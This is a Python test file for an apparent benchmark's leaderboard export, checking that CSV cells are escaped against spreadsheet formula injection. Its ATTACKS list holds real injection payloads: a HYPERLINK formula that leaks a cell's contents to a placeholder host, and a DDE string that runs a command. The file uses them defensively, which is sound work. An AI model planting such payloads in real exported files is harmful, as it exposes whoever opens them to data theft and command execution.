"""No text in a CSV file of ours is a formula to a spreadsheet, and none is lost for that."""

from __future__ import annotations

import csv
import io

import pytest

from boards import made, recorded_run
from merbench.csv_text import read_csv, rows_text, table_text
from merbench.leaderboard import files
from merbench.separation.chart import write_csv
from merbench.separation.scoring import SeparationScore

SIGNS = "=+-@\t\r"
ATTACKS = ['=HYPERLINK("http://x/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_leaderboard_begins_with_a_formula(attack, tmp_path):
    attack = attack.replace("\t", " ") if attack.startswith("\t") else attack
    run = recorded_run(
        made("a", [[0.1, 0.2]], separator=attack, model=attack),
        made("b", [[0.3, 0.1]], features=attack),
        made("c", [[0.1, 0.1]], failed={0: attack}),
    )
    composed = files.compose_board([run])
    numbers = 0
    for name, text in composed.texts.items():
        if not name.endswith(".csv"):
            continue
        for cell in cells(text):
            if cell.startswith(tuple(SIGNS)):
                float(cell)  # a number below 0 is none
                numbers += 1
        (tmp_path / name).write_text(text, encoding="utf-8", newline="")
    assert numbers
    back = read_csv(tmp_path / files.LEADERBOARD)
    assert attack in set(back["separator"]) & set(back["model"])
    assert attack in set(back["features"])
    assert attack in set(back["error"])


def test_scores_of_separators_are_harmless(tmp_path):
    values = dict.fromkeys(SeparationScore._fields, -1.5) | {
        "track": "=1+1",
        "stem": "@x",
        "method": "-a",
    }
    write_csv(tmp_path / "scores.csv", [SeparationScore(**values)])
    (_, _row) = csv.DictReader((tmp_path / "scores.csv").open()), None
    found = next(iter(csv.DictReader((tmp_path / "scores.csv").open())))
    assert (found["track"], found["stem"], found["method"]) == ("'=1+1", "'@x", "'-a")
    assert "-1.5000" in found.values()


def test_headings_are_texts_too():
    assert rows_text(["=a", "b"], [["1", "-2"]]).splitlines() == ["'=a,b", "1,-2"]


def test_a_table_of_numbers_is_as_it_was():
    import pandas as pd

    table = pd.DataFrame({"x": [-1.5, None], "y": ["a", "-"], "z": [True, False]})
    assert table_text(table) == "x,y,z\n-1.5,a,True\n,'-,False\n"
